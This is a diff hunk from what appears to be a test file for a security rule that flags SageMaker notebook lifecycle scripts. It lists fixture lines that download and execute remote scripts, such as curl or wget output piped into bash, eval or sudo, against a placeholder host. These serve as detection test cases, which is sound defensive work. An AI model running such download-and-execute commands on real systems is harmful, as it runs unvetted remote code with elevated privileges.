@@ -95,7 +95,7 @@ for (const [type, properties] of [['AWS::SageMaker::NotebookInstanceLifecycleCon
       'sh -c "$(curl -fsSL https://example.com/x)"', 'eval "$(wget -qO- https://example.com/x)"',
       'source <(curl https://example.com/x)', 'curl https://example.com/x | sudo -E bash -',
     ].map((line) => properties(script(line))),
-    unknown: [properties(PARAM)],
+    unknown: [properties(PARAM)], notApplicable: [{}],
     override: { path, to: script('curl https://example.com/x | bash') },
   });
 }
